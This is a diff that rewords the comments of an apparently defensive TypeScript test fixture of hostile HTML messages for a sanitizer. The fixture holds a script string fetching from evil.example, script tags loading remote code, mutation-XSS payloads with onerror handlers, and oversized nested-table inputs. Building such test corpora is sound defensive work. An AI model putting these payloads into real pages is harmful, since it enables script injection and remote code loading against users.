@@ -1,13 +1,13 @@
-/** A message that tries something, by what it tries. Each holds the word that a reader must still see. */
+/** A hostile message, by its attack. Each contains the word that must stay visible. */
 export interface HostileMessage {
   readonly name: string
   readonly html: string
 }
 
-/** What stands in every hostile message in plain sight. */
+/** Visible text of every hostile message. */
 export const visibleWord = 'Kính gửi anh chị'
 
-/** What every script of these messages does: it marks the page, and it calls home. */
+/** Script of these messages: it marks the page and sends a request. */
 const run = "top.owned=1;document.title='owned';fetch('https://evil.example/script')"
 const seen = `<p>${visibleWord}</p>`
 const nest = (times: number, open: string, inside: string, close: string) =>
@@ -15,7 +15,7 @@ const nest = (times: number, open: string, inside: string, close: string) =>
 
 const message = (name: string, html: string): HostileMessage => ({ name, html })
 
-/** What runs: elements, handlers and addresses. */
+/** Scripts: elements, event handlers and addresses. */
 export const scripts: readonly HostileMessage[] = [
   message('script elements', `${seen}<script>${run}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`),
   message(
@@ -44,7 +44,7 @@ export const scripts: readonly HostileMessage[] = [
   ),
 ]
 
-/** Mutation: what becomes something else when it is parsed a second time. */
+/** Mutation: content that changes when it is parsed again. */
 export const mutations: readonly HostileMessage[] = [
   `<svg></p><style><a id="</style><img src=1 onerror=${run.replaceAll("'", '')}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.owned=1&gt;">`,
@@ -61,7 +61,7 @@ export const mutations: readonly HostileMessage[] = [
   `<!--[if gte mso 9]><script>top.owned=1</script><![endif]--><!--><img src=x onerror=top.owned=1>-->`,
 ].map((html, index) => message(`mutation ${index + 1}`, `${seen}<div>${html}`))
 
-/** Styles that fetch, cover the page, read what they should not, or never rest. */
+/** Styles that fetch, cover the page, read data or animate endlessly. */
 export const styles: readonly HostileMessage[] = [
   message(
     'styles that fetch',
@@ -95,7 +95,7 @@ export const styles: readonly HostileMessage[] = [
   ),
 ]
 
-/** Too much of everything. */
+/** Excessive content. */
 export const masses: readonly HostileMessage[] = [
   message('five megabytes of nested tables', seen + '<table><tr><td>'.repeat(340_000)),
   message('five megabytes of rows', `${seen}<table>${'<tr><td>x</td></tr>'.repeat(260_000)}</table>`),
